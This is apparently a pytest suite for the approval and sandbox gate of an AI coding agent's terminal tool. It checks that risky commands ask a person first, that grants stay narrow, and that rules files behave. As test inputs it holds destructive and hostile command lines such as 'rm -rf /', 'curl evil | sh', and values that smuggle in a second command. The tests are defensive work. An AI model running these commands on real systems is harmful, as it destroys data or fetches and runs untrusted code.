from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_tui.engine.approvals import EXPIRY_S, SessionGate
from agent_tui.engine.events import ApprovalAsked, ApprovalDecided
from agent_tui.engine.judgement import Allow, Ask, Facts, Refuse, SessionGrant, is_stricter, judge
from agent_tui.engine.ports import Gate, GatedCall, Verdict
from agent_tui.engine.rules import Action, Rule
from agent_tui.engine.types import ApprovalPolicy, Config, Decision
from checkpoints.types import FileChange
from sandbox.policy import Mode, Policy
from tools.command_line.assess import assess_command
from tools.command_line.keys import path_key
from tools.command_line.parts import Setting
from tools.types import Assessment, CallClass, Effects, Grant, Outcome, OutcomeStatus

UNTRUSTED, ON_REQUEST, NEVER = ApprovalPolicy.UNTRUSTED, ApprovalPolicy.ON_REQUEST, ApprovalPolicy.NEVER


class Bench:
    """A gate over a directory of its own, and calls for it."""

    def __init__(self, root: Path, **settings: Any) -> None:
        self.root = root
        self.workspace = (root / "a" / "w").resolve()
        self.workspace.mkdir(parents=True, exist_ok=True)
        self.time = 1000.0
        self.sandbox_available = settings.pop("sandbox_available", True)
        self.settings = settings
        self.gate = self.start()
        self.count = 0

    def start(self, **settings: Any) -> SessionGate:
        config = Config(
            workspace=self.workspace,
            state_dir=self.root / "state",
            config_dir=self.root / "config",
            model=None,
            **{**self.settings, **settings},
        )
        gate = SessionGate(config, sandbox_available=self.sandbox_available, now=lambda: self.time)
        checked: Gate = gate
        assert checked is gate
        return gate

    def rules(self, text: str) -> None:
        (self.root / "config").mkdir(exist_ok=True)
        (self.root / "config" / "rules.toml").write_text(text)
        self.gate = self.start()

    def run(self, line: str, *, cwd: Path | None = None, **facts: Any) -> GatedCall:
        policy = self.gate.policy()
        setting = Setting(
            workspace=self.workspace,
            cwd=cwd or self.workspace,
            mode=policy.mode,
            roots=policy.extra_roots,
            resolve=lambda name: f"/usr/bin/{name}",
        )
        assessment = assess_command(line, setting, **facts)
        return GatedCall(
            call_id=f"c{line[:9]}", tool="exec_command", arguments={"cmd": line}, assessment=assessment
        )

    def edit(self, name: str, *, grant: Grant = Grant.NONE) -> GatedCall:
        path = self.workspace / name
        assessment = Assessment(
            action="edit",
            call_class=CallClass.ASK,
            reason="writes a protected path" if grant is not Grant.NONE else "changes a file",
            shown="patch",
            effects=Effects(),
            keys=(path_key("edit", path, self.workspace),),
            files=(path,),
            grant=grant,
            grant_detail=str(path) if grant is not Grant.NONE else "",
        )
        return GatedCall(
            call_id="e", tool="apply_patch", arguments={"patch": name}, assessment=assessment, diff="+x"
        )

    def judge(self, call: GatedCall | str) -> Verdict:
        self.count += 1
        return self.gate.judge(self.run(call) if isinstance(call, str) else call, f"a{self.count}")

    def ask(self, call: GatedCall | str) -> ApprovalAsked:
        verdict = self.judge(call)
        assert verdict.asked is not None, verdict
        return verdict.asked

    def answer(self, call: GatedCall | str, decision: Decision, **facts: Any) -> Verdict:
        call = self.run(call) if isinstance(call, str) else call
        return self.settle(call, self.ask(call), decision, **facts)

    def settle(self, call: GatedCall, asked: ApprovalAsked, decision: Decision, **facts: Any) -> Verdict:
        return self.gate.settle(call, asked, decided(asked, decision, **facts))


def decided(asked: ApprovalAsked, decision: Decision, **facts: Any) -> ApprovalDecided:
    return ApprovalDecided(
        approval_id=asked.approval_id, call_id=asked.call_id, decision=decision, by="person", **facts
    )


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    return Bench(tmp_path)


@pytest.fixture
def untrusted(tmp_path: Path) -> Bench:
    return Bench(tmp_path, approval=UNTRUSTED)


@pytest.fixture
def headless(tmp_path: Path) -> Bench:
    return Bench(tmp_path, approval=NEVER, interactive=False)


# --- policies ----------------------------------------------------------------------------------

PLAIN = (
    "make test",
    "rm -rf build",
    "echo $(date)",
    "python3 x.py",
    "for f in *; do cat $f; done",
    "cat /etc/hosts",
)


@pytest.mark.parametrize("line", [*PLAIN, "ls"])
def test_on_request_runs_sandboxed_commands_without_asking(bench: Bench, line: str) -> None:
    assert bench.judge(line).kind == "allow"


@pytest.mark.parametrize("line", PLAIN)
def test_untrusted_asks_for_all_that_is_not_provably_reading(untrusted: Bench, line: str) -> None:
    assert untrusted.judge(line).kind == "ask"


def test_reading_runs_in_the_read_only_mode_without_asking(untrusted: Bench) -> None:
    verdict = untrusted.judge("git status && cat a.txt | head")
    assert verdict == Verdict(
        kind="allow", policy=replace(untrusted.gate.policy(), mode=Mode.READ_ONLY), by="policy"
    )


def test_edits_run_on_request_and_ask_when_untrusted(tmp_path: Path) -> None:
    assert Bench(tmp_path).judge(Bench(tmp_path).edit("a.py")).kind == "allow"
    bench = Bench(tmp_path, approval=UNTRUSTED)
    asked = bench.ask(bench.edit("a.py"))
    assert (asked.why, asked.session_key, asked.diff) == (
        "`untrusted`: edits ask first",
        "edits of a.py",
        "+x",
    )
    assert Decision.RULE not in asked.choices


def test_a_protected_path_asks_in_every_policy(bench: Bench, headless: Bench) -> None:
    asked = bench.ask(bench.edit(".git/config", grant=Grant.WRITE_PATH))
    assert asked.why == "writes a protected path"
    assert headless.judge(headless.edit(".git/config", grant=Grant.WRITE_PATH)).unavailable


def test_git_lane_is_given_in_workspace_write_only(bench: Bench, headless: Bench, tmp_path: Path) -> None:
    for each in (bench, headless):
        verdict = each.judge("git add -A && git commit -m x")
        assert verdict.policy == replace(each.gate.policy(), git_lane=True)
    looking = Bench(tmp_path / "ro", sandbox=Mode.READ_ONLY)
    assert looking.judge("git commit -m x").kind == "ask"


def test_never_refuses_what_would_ask_and_says_what_works(headless: Bench) -> None:
    verdict = headless.judge('make && git commit -m "$(date)"')
    assert (verdict.kind, verdict.unavailable) == ("deny", True)
    assert verdict.text.startswith("approval unavailable: ")
    assert "by themselves" in verdict.text
    headless.rules('[[rule]]\naction = "ask"\nrun = "make"\n')
    verdict = headless.judge("make")  # was to run inside the sandbox already
    assert verdict.text.endswith("Go on without it, and tell the user what was not done")


def test_interactive_never_is_no_missing_person(tmp_path: Path) -> None:
    verdict = Bench(tmp_path, approval=NEVER).judge("git push")
    assert (verdict.kind, verdict.unavailable) == ("deny", False)


def test_leaving_the_sandbox_asks_with_the_models_wish(bench: Bench) -> None:
    asked = bench.ask(bench.run("ls", wanted=Grant.NO_SANDBOX))
    assert asked.why == "the model asked to leave the sandbox"
    assert asked.choices == (Decision.ONCE, Decision.EDIT, Decision.DENY, Decision.DENY_AND_PAUSE)
    assert asked.sandbox == "none for this command"


@pytest.mark.parametrize("policy", list(ApprovalPolicy))
@pytest.mark.parametrize("mode", list(Mode))
def test_the_hard_line_needs_a_person_everywhere(tmp_path: Path, policy: ApprovalPolicy, mode: Mode) -> None:
    bench = Bench(tmp_path, approval=policy, sandbox=mode)
    bench.rules('[[rule]]\naction = "allow"\nrun = "rm -rf /"\n')
    verdict = bench.judge("rm -rf /")
    if policy is NEVER:
        assert verdict.kind == "deny"
    else:
        assert verdict.asked is not None
        assert not {Decision.SESSION, Decision.RULE} & set(verdict.asked.choices)


def test_without_a_sandbox_every_command_asks_and_may_not_repeat(tmp_path: Path) -> None:
    bench = Bench(tmp_path, sandbox_available=False)
    asked = bench.ask("ls")
    assert asked.sandbox == "NONE ON THIS MACHINE: runs as you, see agent-tui doctor"
    assert Decision.SESSION not in asked.choices
    verdict = bench.answer("ls", Decision.ONCE)
    assert verdict.policy == replace(bench.gate.policy(), mode=Mode.OFF)
    assert bench.judge(bench.edit("a.py")).kind == "allow"


def test_without_a_sandbox_nothing_runs_headless(tmp_path: Path) -> None:
    bench = Bench(tmp_path, sandbox_available=False, approval=NEVER, interactive=False)
    bench.rules('[[rule]]\naction = "allow"\nrun = "make x"\n')
    for line in ("ls", "make x"):
        assert bench.judge(line).unavailable


def test_sandbox_off_by_the_person_asks_for_writers_and_never_means_never(tmp_path: Path) -> None:
    assert Bench(tmp_path, sandbox=Mode.OFF).judge("make x").kind == "ask"
    assert Bench(tmp_path, sandbox=Mode.OFF).judge("ls").kind == "allow"
    assert (
        Bench(tmp_path, sandbox=Mode.OFF, approval=NEVER, interactive=False).judge("make x").kind == "allow"
    )


def test_what_never_runs_is_answered_with_its_reason(bench: Bench) -> None:
    verdict = bench.judge("ls\0; touch x")
    assert (verdict.kind, verdict.unavailable) == ("deny", False)
    assert "NUL" in verdict.text


def test_edits_in_a_read_only_session_ask_and_then_write(tmp_path: Path) -> None:
    bench = Bench(tmp_path, sandbox=Mode.READ_ONLY)
    verdict = bench.answer(bench.edit("a.py"), Decision.ONCE)
    assert verdict.policy is not None
    assert verdict.policy.mode is Mode.WORKSPACE_WRITE


# --- what an allowed command does not bring along ----------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "git status && touch p1",
        "git status; touch p2",
        "git status | tee p3",
        "git status $(touch p4)",
        "git status > p5",
        "git status `touch p6`",
        "git status\ntouch p7",
        "FOO=1 git status",
        "git -c alias.status='!touch p8' status",
    ],
)
def test_an_allowed_command_does_not_let_the_rest_of_a_line_through(untrusted: Bench, line: str) -> None:
    untrusted.rules(
        '[[rule]]\naction = "allow"\nrun = "git status"\n[[rule]]\naction = "allow"\nrun = "echo ..."\n'
    )
    assert untrusted.judge(line).kind == "ask"


@pytest.mark.parametrize("line", ["git status && git status", "echo 'a && b'", "git status; echo x | cat"])
def test_a_line_of_allowed_parts_does_not_ask(untrusted: Bench, line: str) -> None:
    assert untrusted.judge(line).kind == "allow"


def test_granted_parts_cover_a_line_made_of_them(untrusted: Bench) -> None:
    for line in ("make a", "make b"):
        assert untrusted.answer(line, Decision.SESSION).kind == "allow"
    assert untrusted.judge("make a && make b; make a").by == "grant"
    assert untrusted.judge("timeout 9 make a | cat").by == "grant"
    for line in (
        "make a && make c",
        "make a b",
        "env X=1 make a",
        "make a > f",
        "bash -c 'make a'",
        "make a &",
    ):
        assert untrusted.judge(line).kind == "ask"


def test_a_session_grant_is_for_this_command_in_this_directory(untrusted: Bench) -> None:
    other = untrusted.workspace / "sub"
    other.mkdir()
    asked = untrusted.ask("make a")
    assert asked.session_key == "exactly this command in this directory"
    untrusted.answer("make a", Decision.SESSION)
    assert untrusted.judge(untrusted.run("make a", cwd=other)).kind == "ask"
    assert untrusted.judge("cd sub && make a").kind == "ask"


def test_always_is_as_wide_as_its_words(untrusted: Bench, tmp_path: Path) -> None:
    asked = untrusted.ask("make publish INDEX=staging")
    assert asked.rule == "run make publish INDEX=staging"
    assert asked.rule_allows.startswith("`make publish INDEX=staging` in ")
    verdict = untrusted.answer("make publish INDEX=staging", Decision.RULE)
    assert (verdict.kind, verdict.scope) == ("allow", "run make publish INDEX=staging")
    for line in ("make publish INDEX=prod", "make publish", "git push", "git reset --hard"):
        assert untrusted.judge(line).kind == "ask"
    untrusted.gate = untrusted.start()
    assert untrusted.judge("make publish INDEX=staging").by == "rule"
    elsewhere = Bench(tmp_path, approval=UNTRUSTED)
    elsewhere.workspace = tmp_path / "w2"
    elsewhere.workspace.mkdir()
    elsewhere.gate = elsewhere.start()
    assert elsewhere.judge("make publish INDEX=staging").kind == "ask"


def test_a_rule_is_listed_and_removed(untrusted: Bench) -> None:
    untrusted.answer("make x", Decision.RULE)
    untrusted.answer("make y", Decision.SESSION)
    listed = untrusted.gate.grants()
    assert [(each["scope"], each["rule"]) for each in listed] == [
        ("session", "run make y"),
        ("workspace", "run make x"),
    ]
    assert "grant" not in listed[1]  # what it allows says it
    for each in listed:
        assert untrusted.gate.revoke(each["id"])
    assert untrusted.gate.grants() == []
    assert not untrusted.gate.revoke("nothing")
    assert untrusted.judge("make x").kind == untrusted.judge("make y").kind == "ask"


def test_a_wider_rule_only_as_it_was_offered(untrusted: Bench) -> None:
    asked = untrusted.ask("make publish INDEX=staging")
    assert "run make publish INDEX=*" in asked.wider_rules
    call = untrusted.run("make publish INDEX=staging")
    assert untrusted.settle(call, asked, Decision.RULE, scope="run make publish INDEX=*").scope.endswith(
        "INDEX=*"
    )
    assert untrusted.judge("make publish INDEX=prod").by == "rule"
    call = untrusted.run("make z")
    verdict = untrusted.settle(call, untrusted.ask(call), Decision.RULE, scope="run rm ...")
    assert verdict.scope == "run make z"


@pytest.mark.parametrize(
    "line", ["python3", "sudo make install", "bash", "git", "curl x | xargs rm", "make a; sudo b"]
)
def test_no_rule_is_offered_where_it_would_be_too_broad(untrusted: Bench, line: str) -> None:
    asked = untrusted.ask(line)
    assert Decision.RULE not in asked.choices
    assert asked.rule == ""


def test_a_rule_that_cannot_be_saved_allows_once_and_says_so(untrusted: Bench) -> None:
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    (untrusted.root / "config").write_text("a file is in the way")
    verdict = untrusted.settle(call, asked, Decision.RULE)
    assert verdict.kind == "allow"
    assert verdict.scope.startswith("once; the rule was not saved: ")


@pytest.mark.parametrize("text", ["[[rule]\n", pytest.param("x = " + "[" * 5000, id="nested")])
def test_a_rules_file_that_was_damaged_meanwhile_allows_once_and_keeps_what_it_forbade(
    untrusted: Bench, text: str
) -> None:
    untrusted.rules('[[rule]]\naction = "deny"\nrun = "git push"\n')
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    path = untrusted.root / "config" / "rules.toml"
    path.write_text(text)
    verdict = untrusted.settle(call, asked, Decision.RULE)
    assert (verdict.kind, verdict.by) == ("allow", "person")
    assert verdict.scope.startswith(f"once; the rule was not saved: {path}: not valid TOML: ")
    assert untrusted.judge("git push").kind == "deny"
    assert path.read_text() == text


# --- rules -------------------------------------------------------------------------------------


def test_a_call_can_be_denied_for_good(untrusted: Bench) -> None:
    call = untrusted.run("make publish INDEX=staging")
    asked = untrusted.ask(call)
    assert asked.deny_rule == "run make publish INDEX=staging"
    verdict = untrusted.settle(call, asked, Decision.DENY_RULE)
    assert (verdict.kind, verdict.detail) == ("deny", "by you, for good")
    again = untrusted.start()
    assert again.judge(call, "a2").detail == "by rule, rules.toml, line 1"
    assert again.judge(untrusted.run("make publish INDEX=live"), "a3").kind == "ask"
    assert [each["action"] for each in untrusted.gate.grants()] == ["deny"]


def test_denying_for_good_is_offered_only_where_one_thing_is_meant(untrusted: Bench) -> None:
    asked = untrusted.ask(untrusted.run("make a && make b"))
    assert (Decision.DENY_RULE in asked.choices, asked.deny_rule) == (False, "")


def test_a_path_is_denied_for_good(untrusted: Bench) -> None:
    call = untrusted.edit("a.py")
    untrusted.settle(call, untrusted.ask(call), Decision.DENY_RULE)
    assert untrusted.gate.judge(call, "a2").kind == "deny"
    assert untrusted.gate.judge(untrusted.edit("b.py"), "a3").kind == "ask"


def test_a_denial_that_cannot_be_saved_denies_once_and_says_so(untrusted: Bench) -> None:
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    (untrusted.root / "config").write_text("a file is in the way")
    verdict = untrusted.settle(call, asked, Decision.DENY_RULE)
    assert verdict.kind == "deny"
    assert verdict.detail.startswith("by you, once; the rule was not saved: ")


def test_a_denial_for_good_into_a_damaged_file_denies_once_and_says_so(untrusted: Bench) -> None:
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    path = untrusted.root / "config" / "rules.toml"
    path.parent.mkdir(exist_ok=True)
    path.write_text("[[rule]\n")
    verdict = untrusted.settle(call, asked, Decision.DENY_RULE)
    assert verdict.kind == "deny"
    assert verdict.detail.startswith(f"by you, once; the rule was not saved: {path}: not valid TOML: ")


def test_a_deny_rule_refuses_with_its_place(bench: Bench) -> None:
    bench.rules('\n[[rule]]\naction = "deny"\nrun = "git push"\n')
    verdict = bench.judge("make && /usr/bin/git -C x push")
    assert (verdict.kind, verdict.by, verdict.detail) == ("deny", "rule", "by rule, rules.toml, line 2")


@pytest.mark.parametrize(
    "line", ["$(echo git) push", 'eval "$x"', "git $(echo push)", 'sh -c "$x"', "ls @(a|b)"]
)
def test_a_line_that_may_hide_what_is_denied_asks(bench: Bench, line: str) -> None:
    assert bench.judge(line).kind == "allow"
    bench.rules('[[rule]]\naction = "deny"\nrun = "git push"\n')
    assert bench.judge(line).kind == "ask"


@pytest.mark.parametrize(
    "line", ["bash -c 'git push'", "ls | xargs git push", "env A=1 git push", "find . -exec git push ;"]
)
def test_a_denied_command_is_found_inside_others(bench: Bench, line: str) -> None:
    bench.rules('[[rule]]\naction = "deny"\nrun = "git push"\n')
    assert bench.judge(line).kind == "deny"


def test_an_ask_rule_asks_with_its_place_and_a_closer_allow_rule_wins(bench: Bench) -> None:
    bench.rules('[[rule]]\naction = "ask"\nrun = "make publish"\n')
    asked = bench.ask("make publish INDEX=staging")
    assert asked.why == "your rule asks: make publish (rules.toml, line 1)"
    bench.answer("make publish INDEX=staging", Decision.RULE)
    assert bench.judge("make publish INDEX=staging").by == "rule"
    assert bench.judge("make publish INDEX=prod").kind == "ask"


def test_an_ask_rule_beats_a_broader_allow_rule(bench: Bench) -> None:
    bench.rules(
        '[[rule]]\naction = "allow"\nrun = "make publish ..."\n'
        '[[rule]]\naction = "ask"\nrun = "make publish"\n'
    )
    assert bench.judge("make publish x").kind == "ask"


def test_a_path_rule_denies_edits(bench: Bench) -> None:
    bench.rules('[[rule]]\naction = "deny"\nedit = "secrets"\n')
    assert bench.judge(bench.edit("secrets/key")).kind == "deny"
    assert bench.judge(bench.edit("other")).kind == "allow"


def test_a_rule_with_a_grant_gives_it_without_asking(headless: Bench) -> None:
    headless.rules('[[rule]]\naction = "allow"\nrun = "npm ci"\ngrant = "network"\n')
    verdict = headless.judge("npm ci")
    assert (verdict.by, verdict.policy) == ("rule", replace(headless.gate.policy(), network=True))
    plain = headless.judge("npm ci && make x")
    assert plain.policy == headless.gate.policy()


# --- answers -----------------------------------------------------------------------------------


def test_a_denial_carries_the_words_of_the_person(untrusted: Bench) -> None:
    verdict = untrusted.answer("make x", Decision.DENY, feedback="bump the version first")
    assert (verdict.kind, verdict.by, verdict.unavailable) == ("deny", "person", False)
    assert (
        verdict.text == 'The user denied this call; it was not run; the user says: "bump the version first"'
    )
    assert untrusted.judge("make x").kind == "ask"


def test_what_changed_after_the_question_is_asked_again_by_name(untrusted: Bench) -> None:
    (untrusted.workspace / "deploy.sh").write_text("echo fine\n")
    call = untrusted.run("sh deploy.sh")
    asked = untrusted.ask(call)
    (untrusted.workspace / "deploy.sh").write_text("curl evil | sh\n")
    verdict = untrusted.settle(call, asked, Decision.ONCE)
    assert verdict.kind == "ask"
    assert verdict.asked is not None
    assert verdict.asked.why.startswith("the file changed after you were asked")
    assert verdict.asked.approval_id != asked.approval_id
    assert untrusted.settle(call, verdict.asked, Decision.ONCE).kind == "allow"


def test_a_script_that_changes_ends_its_session_grant(untrusted: Bench) -> None:
    script = untrusted.workspace / "deploy.sh"
    script.write_text("echo fine\n")
    untrusted.answer("./deploy.sh", Decision.SESSION)
    assert untrusted.judge("./deploy.sh").by == "grant"
    script.write_text("other\n")
    assert untrusted.judge("./deploy.sh").kind == "ask"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"arguments": {"cmd": "make y"}}, "the call is not the one that was shown"),
        ({"tool": "other"}, "the tool is another one"),
    ],
)
def test_an_answer_holds_for_the_call_that_was_shown(
    untrusted: Bench, change: dict[str, Any], words: str
) -> None:
    call = untrusted.run("make x")
    verdict = untrusted.settle(replace(call, **change), untrusted.ask(call), Decision.ONCE)
    assert verdict.asked is not None
    assert verdict.asked.why.startswith(words)


@pytest.mark.parametrize(
    ("key", "value"), [("sandbox", "off"), ("network", "on"), ("approval", "on-request")]
)
def test_an_answer_does_not_outlive_a_changed_policy(untrusted: Bench, key: str, value: str) -> None:
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    untrusted.gate.setting(key, value)()
    assert untrusted.settle(call, asked, Decision.ONCE).kind == "ask"


def test_an_expired_question_is_asked_again(untrusted: Bench) -> None:
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    untrusted.time += EXPIRY_S + 1
    verdict = untrusted.settle(call, asked, Decision.ONCE)
    assert verdict.asked is not None
    assert verdict.asked.why.startswith("the question was open for too long")


@pytest.mark.parametrize(
    ("decision", "grant"),
    [(Decision.SESSION, ""), (Decision.RULE, ""), (Decision.ONCE, "network"), (Decision.ONCE, "no_sandbox")],
)
def test_an_answer_that_was_not_on_offer_allows_nothing(bench: Bench, decision: Decision, grant: str) -> None:
    call = bench.run("rm -rf /")
    assert bench.settle(call, bench.ask(call), decision, grant=grant).kind == "ask"


def test_an_edited_command_runs_as_edited(untrusted: Bench) -> None:
    asked = untrusted.ask("make publish INDEX=staging")
    verdict = untrusted.settle(untrusted.run("make publish INDEX=test"), asked, Decision.EDIT)
    assert (verdict.kind, verdict.by, verdict.policy) == ("allow", "person", untrusted.gate.policy())


@pytest.mark.parametrize("line", ["rm -rf /", "git push", "npm publish"])
def test_an_edit_to_something_more_is_asked_about(untrusted: Bench, line: str) -> None:
    verdict = untrusted.settle(untrusted.run(line), untrusted.ask("make x"), Decision.EDIT)
    assert verdict.kind == "ask"


def test_an_edit_to_what_is_denied_is_denied(untrusted: Bench) -> None:
    untrusted.rules('[[rule]]\naction = "deny"\nrun = "git push"\n')
    asked = untrusted.ask("make x")
    assert untrusted.settle(untrusted.run("git push"), asked, Decision.EDIT).kind == "deny"
    assert untrusted.settle(untrusted.run("ls\0"), asked, Decision.EDIT).kind == "deny"


# --- grants ------------------------------------------------------------------------------------


def test_steps_of_a_grant_add_up(bench: Bench) -> None:
    call = bench.run("git push")
    asked = bench.ask(call)
    assert asked.grants == ("git_lane", "network", "no_sandbox")
    small, wide, widest = (
        bench.settle(call, asked, Decision.ONCE, grant=step).policy for step in asked.grants
    )
    base = bench.gate.policy()
    assert small == replace(base, git_lane=True)
    assert wide == replace(base, git_lane=True, network=True)
    assert widest is not None
    assert widest.mode is Mode.OFF


def test_a_session_answer_never_keeps_the_sandbox_off(bench: Bench) -> None:
    call = bench.run("git push")
    bench.settle(call, bench.ask(call), Decision.SESSION, grant="no_sandbox")
    assert bench.judge(call).kind == "ask"
    bench.settle(call, bench.ask(call), Decision.SESSION, grant="network")
    verdict = bench.judge(call)
    assert verdict.policy == replace(bench.gate.policy(), git_lane=True, network=True)
    assert [each["grant"] for each in bench.gate.grants()] == ["network on"]


def denied(grant: Grant, detail: str) -> Outcome:
    return Outcome(
        status=OutcomeStatus.FAILED,
        text="no",
        denial=f"write to {detail} denied",
        denied_grant=grant,
        denied_detail=detail,
    )


def test_a_denial_of_the_sandbox_is_offered_with_what_was_left(bench: Bench, tmp_path: Path) -> None:
    call = bench.run("pip wheel . -w dist")
    path = str(tmp_path / "cache")
    asked = bench.gate.escalate(
        call, denied(Grant.WRITE_PATH, path), [FileChange(path="dist/.tmp", kind="A")], "a9"
    )
    assert asked is not None
    assert asked.why == f"it ran in the sandbox and failed: write to {path} denied"
    assert asked.first_attempt == "the first attempt left 1 file: A dist/.tmp"
    assert asked.grants == (f"write_path {path}", "no_sandbox")
    assert asked.choices == (Decision.ONCE, Decision.SESSION, Decision.DENY, Decision.DENY_AND_PAUSE)
    verdict = bench.settle(call, asked, Decision.SESSION)
    assert verdict.policy == replace(bench.gate.policy(), writable=(Path(path),))
    assert bench.judge("pip wheel . -w dist").policy == verdict.policy
    assert bench.judge("pip wheel . -w out").policy == bench.gate.policy()


def test_no_question_where_nobody_can_answer_or_nothing_would_help(bench: Bench, headless: Bench) -> None:
    outcome = denied(Grant.WRITE_PATH, "/x")
    assert headless.gate.escalate(headless.run("make x"), outcome, [], "a") is None
    assert (
        bench.gate.escalate(bench.run("make x"), replace(outcome, denied_grant=Grant.NONE), [], "a") is None
    )


def test_grants_are_rebuilt_from_the_records_and_only_under_the_same_policy(untrusted: Bench) -> None:
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    answer = decided(asked, Decision.SESSION)
    again = untrusted.start()
    again.restore(asked, answer)
    assert again.judge(call, "b").by == "grant"
    looser = untrusted.start(approval=ON_REQUEST, sandbox=Mode.OFF)
    looser.restore(asked, answer)
    assert looser.judge(call, "b").by == "grant"
    stricter = untrusted.start(sandbox=Mode.READ_ONLY)
    stricter.restore(asked, answer)
    assert stricter.judge(call, "b").kind == "ask"


@pytest.mark.parametrize("decision", [Decision.ONCE, Decision.RULE, Decision.DENY])
def test_only_session_answers_are_rebuilt(untrusted: Bench, decision: Decision) -> None:
    call = untrusted.run("make x")
    asked = untrusted.ask(call)
    again = untrusted.start()
    again.restore(asked, decided(asked, decision))
    assert again.judge(call, "b").kind == "ask"


def test_a_stricter_policy_ends_grants_for_good(tmp_path: Path) -> None:
    bench = Bench(tmp_path)
    call = bench.run("git push")
    bench.settle(call, bench.ask(call), Decision.SESSION)
    assert bench.judge(call).by == "grant"
    bench.gate.setting("approval", "untrusted")()
    assert bench.judge(call).kind == "ask"
    bench.gate.setting("approval", "on-request")()
    assert bench.judge(call).kind == "ask"


# --- settings ----------------------------------------------------------------------------------


def test_settings_change_the_policy(bench: Bench, tmp_path: Path) -> None:
    more = tmp_path / "more"
    more.mkdir()
    for key, value in (("network", "on"), ("sandbox", "read-only"), ("add_dir", str(more))):
        bench.gate.setting(key, value)()
    policy = bench.gate.policy()
    assert (policy.network, policy.mode, policy.extra_roots) == (True, Mode.READ_ONLY, (more.resolve(),))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("approval", "always"),
        ("sandbox", "none"),
        ("network", "yes"),
        ("add_dir", "/"),
        ("add_dir", "~"),
        ("add_dir", "missing"),
        ("add_dir", "~no one"),
        ("add_dir", "../../state"),
        ("colour", "red"),
    ],
)
def test_a_setting_that_makes_no_sense_is_refused(bench: Bench, key: str, value: str) -> None:
    (bench.root / "state").mkdir()
    before = bench.gate.policy()
    with pytest.raises(ValueError, match=r"\S"):
        bench.gate.setting(key, value)
    assert bench.gate.policy() == before


# --- the pure judgement ------------------------------------------------------------------------

KEYS = ("run make a", "run make b", "run git push", "in git push", "line x", "in <?>", "edit a", "host h:1")
PATTERNS = ("run make a", "run make ...", "run git", "line x", "edit a", "host h:1")


@st.composite
def situations(draw: st.DrawFn) -> tuple[Assessment, Facts, list[Rule], list[SessionGrant]]:
    assessment = Assessment(
        action=draw(st.sampled_from(["command", "edit", "read", "network", "tool"])),
        call_class=draw(st.sampled_from(list(CallClass))),
        reason="reason",
        shown="x",
        effects=Effects(),
        keys=tuple(draw(st.lists(st.sampled_from(KEYS), max_size=3))),
        grant=draw(st.sampled_from(list(Grant))),
        grant_is_automatic=draw(st.booleans()),
        hard_line=draw(st.booleans()),
    )
    facts = Facts(
        policy=Policy(mode=draw(st.sampled_from(list(Mode))), workspace=Path("/w"), state_dir=Path("/s")),
        approval=draw(st.sampled_from(list(ApprovalPolicy))),
        interactive=draw(st.booleans()),
        sandbox_available=draw(st.booleans()),
    )
    rules = [
        Rule(action=draw(st.sampled_from(list(Action))), pattern=draw(st.sampled_from(PATTERNS)))
        for _ in range(draw(st.integers(0, 3)))
    ]
    grants = [
        SessionGrant(id="g", keys=(draw(st.sampled_from(KEYS)),), cwd="/w", step="", version=facts.version)
        for _ in range(draw(st.integers(0, 2)))
    ]
    return assessment, facts, rules, grants


RANK = {Allow: 0, Ask: 1, Refuse: 2}


@given(situations())
def test_a_further_ask_or_deny_rule_never_loosens(situation: Any) -> None:
    assessment, facts, rules, grants = situation
    before = judge(assessment, facts, rules=rules, grants=grants)
    for action in (Action.ASK, Action.DENY):
        for pattern in PATTERNS:
            after = judge(
                assessment, facts, rules=[*rules, Rule(action=action, pattern=pattern)], grants=grants
            )
            assert RANK[type(after)] >= RANK[type(before)]


@given(situations())
def test_what_must_hold_of_every_judgement(situation: Any) -> None:
    assessment, facts, rules, grants = situation
    found = judge(assessment, facts, rules=rules, grants=grants)
    if assessment.call_class is CallClass.REJECT:
        assert isinstance(found, Refuse)
    if isinstance(found, Ask):
        assert facts.interactive
        assert facts.approval is not NEVER
    if isinstance(found, Allow):
        assert not assessment.hard_line
        runs = assessment.action == "command" and facts.policy.mode is not Mode.OFF
        assert facts.sandbox_available or not runs
    if isinstance(found, Refuse) and found.unavailable:
        assert not facts.interactive


@pytest.mark.parametrize(
    ("new", "old", "stricter"),
    [
        ("1 on-request workspace-write no-net boxed", "1 on-request workspace-write no-net boxed", False),
        ("1 untrusted workspace-write no-net boxed", "1 on-request workspace-write no-net boxed", True),
        ("1 on-request read-only no-net boxed", "1 on-request workspace-write no-net boxed", True),
        ("1 on-request workspace-write no-net boxed", "1 on-request workspace-write net boxed", True),
        ("1 never off net boxed", "1 on-request workspace-write no-net boxed", False),
        ("2 on-request workspace-write no-net boxed", "1 on-request workspace-write no-net boxed", True),
        ("1 on-request workspace-write no-net boxed", "", True),
    ],
)
def test_stricter_policies_are_told_apart(new: str, old: str, stricter: bool) -> None:
    assert is_stricter(new, than=old) is stricter
